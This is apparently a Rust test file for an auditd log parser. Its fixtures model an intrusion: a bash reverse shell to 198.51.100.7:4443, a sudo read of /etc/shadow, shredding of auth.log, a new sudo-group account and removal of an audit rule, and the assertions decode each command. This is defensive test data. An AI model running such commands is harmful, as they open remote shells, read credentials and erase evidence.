//! Record shapes as auditd writes them (kernel `audit_log_*`, libaudit
//! `audit_log_acct_message`/`audit_log_user_message`, shadow-utils, sudo, sshd's audit-linux.c).

use super::*;
use crate::parse::time::{format_rfc3339, YearRule, Zone};
use std::sync::Arc;

fn p() -> &'static AuditParser {
    Box::leak(Box::new(AuditParser {
        ctx: FileCtx {
            rel_path: Arc::from("audit.log"),
            host_hint: Some(Arc::from("db01")),
            year: YearRule::Fixed(2026),
            zone: Zone::Utc,
        },
    }))
}

fn group(lines: &[&'static str]) -> Event<'static> {
    let mut ev = Event::default();
    let module = p().parse_group(lines, &mut ev).expect("an audit event");
    let auth = matches!(ev.event_category.as_deref(), Some("authentication" | "session" | "iam"))
        || ev.event_action.as_deref().is_some_and(|a| a.starts_with("sudo."));
    assert_eq!(module, if auth { Module::Auth } else { Module::Audit }, "{lines:?}");
    ev
}

const EXEC: &[&str] = &[
    r#"type=SYSCALL msg=audit(1767262405.123:4567): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c0e0 a1=55d1c0f0 a2=55d1c100 a3=0 items=2 ppid=2100 pid=2155 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" subj=unconfined key="exec""#,
    r#"type=EXECVE msg=audit(1767262405.123:4567): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3139382E35312E3130302E372F3434343320303E2631"#,
    r#"type=CWD msg=audit(1767262405.123:4567): cwd="/tmp""#,
    r#"type=PATH msg=audit(1767262405.123:4567): item=0 name="/usr/bin/bash" inode=1234 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"#,
    r#"type=PROCTITLE msg=audit(1767262405.123:4567): proctitle=62617368002D63"#,
    r#"type=EOE msg=audit(1767262405.123:4567): "#,
];

#[test]
fn execve_event_joins_its_records() {
    let ev = group(EXEC);
    assert_eq!(format_rfc3339(ev.timestamp), "2026-01-01T10:13:25.123000Z");
    assert_eq!(ev.event_action.as_deref(), Some(action::PROCESS_START));
    assert_eq!(ev.event_category.as_deref(), Some("process"));
    assert_eq!(
        ev.process_args.as_deref(),
        Some(&["bash".to_string(), "-c".into(), "bash -i >& /dev/tcp/198.51.100.7/4443 0>&1".into()][..])
    );
    assert_eq!(ev.process_command_line.as_deref(), Some("bash -c bash -i >& /dev/tcp/198.51.100.7/4443 0>&1"));
    assert_eq!(ev.process_executable.as_deref(), Some("/usr/bin/bash"));
    assert_eq!(ev.process_working_directory.as_deref(), Some("/tmp"));
    assert_eq!(ev.process_pid, Some(2155));
    assert_eq!(ev.process_parent_pid, Some(2100));
    assert_eq!(ev.user_id.as_deref(), Some("0"));
    assert_eq!(ev.user_effective_id.as_deref(), Some("0"));
    assert_eq!(ev.user_audit_id.as_deref(), Some("1000"));
    assert_eq!(ev.audit_session_id.as_deref(), Some("3"));
    assert_eq!(ev.audit_key.as_deref(), Some("exec"));
    assert_eq!(ev.file_path.as_deref(), Some("/usr/bin/bash"));
    assert_eq!(ev.log_record_id.as_deref(), Some("1767262405.123:4567"));
    assert_eq!(ev.host_name.as_deref(), Some("db01"));
    let extra: serde_json::Value = serde_json::from_str(ev.event_extra.as_deref().unwrap()).unwrap();
    assert_eq!(extra["audit_type"], "SYSCALL");
    assert_eq!(extra["audit_records"].as_array().unwrap().len(), 6);
}

#[test]
fn split_execve_arguments_are_joined_across_records() {
    // The kernel splits an argument longer than its buffer: `a1_len=` then `a1[0]=`, `a1[1]=`…,
    // each piece hex, possibly in a record of its own.
    let ev = group(&[
        r#"node=web01 type=SYSCALL msg=audit(1767262405.500:4600): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=2 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="python3" exe="/usr/bin/python3.11" key=(null)"#,
        r#"node=web01 type=EXECVE msg=audit(1767262405.500:4600): argc=3 a0="python3" a1_len=12 a1[0]=2D63"#,
        r#"node=web01 type=EXECVE msg=audit(1767262405.500:4600): a1[1]=20696D706F7274206F73 a2="x""#,
    ]);
    assert_eq!(ev.process_args.as_deref(), Some(&["python3".to_string(), "-c import os".into(), "x".into()][..]));
    assert_eq!(ev.audit_key, None, "(null) is no key");
    assert_eq!(ev.host_name.as_deref(), Some("web01"), "node= names the host");
}

#[test]
fn enriched_form_names_users_and_syscall() {
    let ev = group(&[
        "type=SYSCALL msg=audit(1767262405.700:4700): arch=c00000b7 syscall=221 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=9 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=4 comm=\"id\" exe=\"/usr/bin/id\" key=\"exec\"\x1dARCH=aarch64 SYSCALL=execve AUID=\"alice\" UID=\"root\" GID=\"root\" EUID=\"root\"",
        "type=EXECVE msg=audit(1767262405.700:4700): argc=1 a0=\"id\"",
        "type=PROCTITLE msg=audit(1767262405.700:4700) : proctitle=6964\x1d",
    ]);
    assert_eq!(ev.event_action.as_deref(), Some(action::PROCESS_START));
    assert_eq!(ev.user_name.as_deref(), Some("root"));
    assert_eq!(ev.process_command_line.as_deref(), Some("id"));
}

#[test]
fn proctitle_stands_in_for_missing_execve_arguments() {
    let ev = group(&[
        r#"type=SYSCALL msg=audit(1767262406.000:4800): arch=c000003e syscall=59 success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=1 ppid=1 pid=3 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="shred" exe="/usr/bin/shred" key="exec""#,
        "type=PROCTITLE msg=audit(1767262406.000:4800): proctitle=7368726564002D7500002F7661722F6C6F672F617574682E6C6F67",
    ]);
    assert_eq!(ev.process_command_line.as_deref(), Some("shred -u /var/log/auth.log"));
}

#[test]
fn failed_logins_through_pam_and_sshd() {
    let ev = group(&[
        r#"type=USER_AUTH msg=audit(1767262500.010:5001): pid=2301 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'"#,
    ]);
    assert_eq!(ev.event_action.as_deref(), Some(action::AUTH_FAILURE));
    assert_eq!(ev.event_outcome.as_deref(), Some("failure"));
    assert_eq!(ev.auth_method.as_deref(), Some("pam"));
    assert_eq!(ev.user_name.as_deref(), Some("root"));
    assert_eq!(ev.source_ip.as_deref(), Some("203.0.113.9"));
    assert_eq!(ev.process_pid, Some(2301));
    assert_eq!(ev.process_name.as_deref(), Some("sshd"));
    assert_eq!(ev.user_audit_id, None, "4294967295 is unset");
    assert_eq!(ev.audit_session_id, None);

    // sshd's own record, hex acct for a name with a space; `(invalid user)` is no name.
    let ev = group(&[
        r#"type=USER_LOGIN msg=audit(1767262500.020:5002): pid=2301 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=61646D696E2074657374 exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed'"#,
    ]);
    assert_eq!(ev.event_action.as_deref(), Some(action::AUTH_LOGIN_FAILURE));
    assert_eq!(ev.user_name.as_deref(), Some("admin test"));
    let ev = group(&[
        r#"type=USER_LOGIN msg=audit(1767262500.030:5003): pid=2302 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="(invalid user)" exe="/usr/sbin/sshd" hostname=? addr=::ffff:198.51.100.4 terminal=sshd res=failed'"#,
    ]);
    assert_eq!(ev.user_name, None);
    assert_eq!(ev.source_ip.as_deref(), Some("198.51.100.4"));

    let ev = group(&[
        r#"type=USER_LOGIN msg=audit(1767262600.000:5100): pid=2400 uid=0 auid=1000 ses=7 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=/dev/pts/1 res=success'"#,
    ]);
    assert_eq!(ev.event_action.as_deref(), Some(action::AUTH_SUCCESS));
    assert_eq!(ev.user_audit_id.as_deref(), Some("1000"));
}

#[test]
fn account_and_sudo_records() {
    let old = group(&[
        r#"type=ADD_USER msg=audit(1767262700.000:5200): pid=2500 uid=0 auid=1000 ses=7 msg='op=adding user id=1001 exe="/usr/sbin/useradd" hostname=db01 addr=? terminal=pts/1 res=success'"#,
    ]);
    assert_eq!(old.event_action.as_deref(), Some(action::ACCOUNT_CREATE));
    assert_eq!(old.user_target_name.as_deref(), Some("1001"));
    assert_eq!(old.source_ip, None, "addr=? is no address");
    let new = group(&[
        r#"type=ADD_USER msg=audit(1767262700.100:5201): pid=2500 uid=0 auid=1000 ses=7 msg='op=add-user acct="backup" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/1 res=success'"#,
    ]);
    assert_eq!(new.user_target_name.as_deref(), Some("backup"));
    let grp = group(&[
        r#"type=USER_MGMT msg=audit(1767262700.200:5202): pid=2501 uid=0 auid=1000 ses=7 msg='op=add-user-to-group grp="sudo" acct="backup" exe="/usr/sbin/usermod" hostname=? addr=? terminal=pts/1 res=success'"#,
    ]);
    assert_eq!(grp.event_action.as_deref(), Some(action::GROUP_MEMBER_ADD));
    assert_eq!(grp.group_name.as_deref(), Some("sudo"));
    let sudo = group(&[
        r#"type=USER_CMD msg=audit(1767262800.000:5300): pid=2600 uid=1000 auid=1000 ses=7 msg='cwd="/home/alice" cmd=636174202F6574632F736861646F77 exe="/usr/bin/sudo" terminal=pts/1 res=success'"#,
    ]);
    assert_eq!(sudo.event_action.as_deref(), Some(action::SUDO_COMMAND));
    assert_eq!(sudo.process_command_line.as_deref(), Some("cat /etc/shadow"));
    assert_eq!(sudo.process_working_directory.as_deref(), Some("/home/alice"));
    let cfg = group(&[
        r#"type=CONFIG_CHANGE msg=audit(1767262900.000:5400): auid=1000 ses=7 op=remove_rule key="exec" list=4 res=1"#,
    ]);
    assert_eq!(cfg.event_action.as_deref(), Some(action::AUDIT_CONFIG_CHANGE));
}

#[test]
fn sniffing_and_rejects() {
    assert!(AuditSpec.sniff(EXEC[0]));
    assert!(AuditSpec.sniff("node=h type=EOE msg=audit(1767262405.123:4567): "));
    assert!(!AuditSpec.sniff("Dec  5 10:00:01 h sshd[1]: type=x"));
    assert!(!AuditSpec.sniff("type=SYSCALL msg=audit(abc:1): x"));
    assert_eq!(p().group_key(EXEC[1]), Some(("", "1767262405.123:4567")));
    let mut ev = Event::default();
    assert!(p().parse("type=SYSCALL no id here", &mut ev).is_err());
}

#[test]
fn enriched_user_records_name_the_account_not_the_writer() {
    // sshd (uid 0) writes the login of deploy: the account is `ID`, not the writer's `UID`.
    let ev = group(&["type=USER_LOGIN msg=audit(1767262600.000:5100): pid=2400 uid=0 auid=1002 ses=7 msg='op=login id=1002 exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 addr=10.0.0.5 terminal=/dev/pts/0 res=success'\x1dUID=\"root\" AUID=\"deploy\" ID=\"deploy\""]);
    assert_eq!(ev.user_name.as_deref(), Some("deploy"));
    assert_eq!(ev.user_id.as_deref(), Some("1002"));
    // sudo (run by deploy) writes its command: the writer is the user.
    let ev = group(&["type=USER_CMD msg=audit(1767262600.500:5101): pid=2410 uid=1002 auid=1002 ses=7 msg='cwd=\"/home/deploy\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'\x1dUID=\"deploy\" AUID=\"deploy\""]);
    assert_eq!(ev.user_name.as_deref(), Some("deploy"));
    assert_eq!(ev.event_action.as_deref(), Some(action::SUDO_COMMAND));
}

#[test]
fn mangled_records_never_panic() {
    use rand::{Rng, SeedableRng};
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(3);
    let pieces = [
        "type=",
        "SYSCALL",
        "EXECVE",
        "USER_LOGIN",
        " msg=audit(",
        "1767262405.123",
        ":45",
        ")",
        ": ",
        "a0=",
        "a1[",
        "]=",
        "_len=",
        "\"",
        "'",
        "msg='",
        "op=",
        "acct=",
        "=",
        " ",
        "é",
        "\x1d",
        "AUID=",
        "ff",
        "4294967295",
        "node=",
        "(null)",
        "proctitle=",
        "6869",
    ];
    for _ in 0..5000 {
        let n = rng.random_range(1..25);
        let line: String = (0..n).map(|_| pieces[rng.random_range(0..pieces.len())]).collect();
        let mut ev = Event::default();
        let _ = p().parse(Box::leak(line.into_boxed_str()), &mut ev);
    }
}
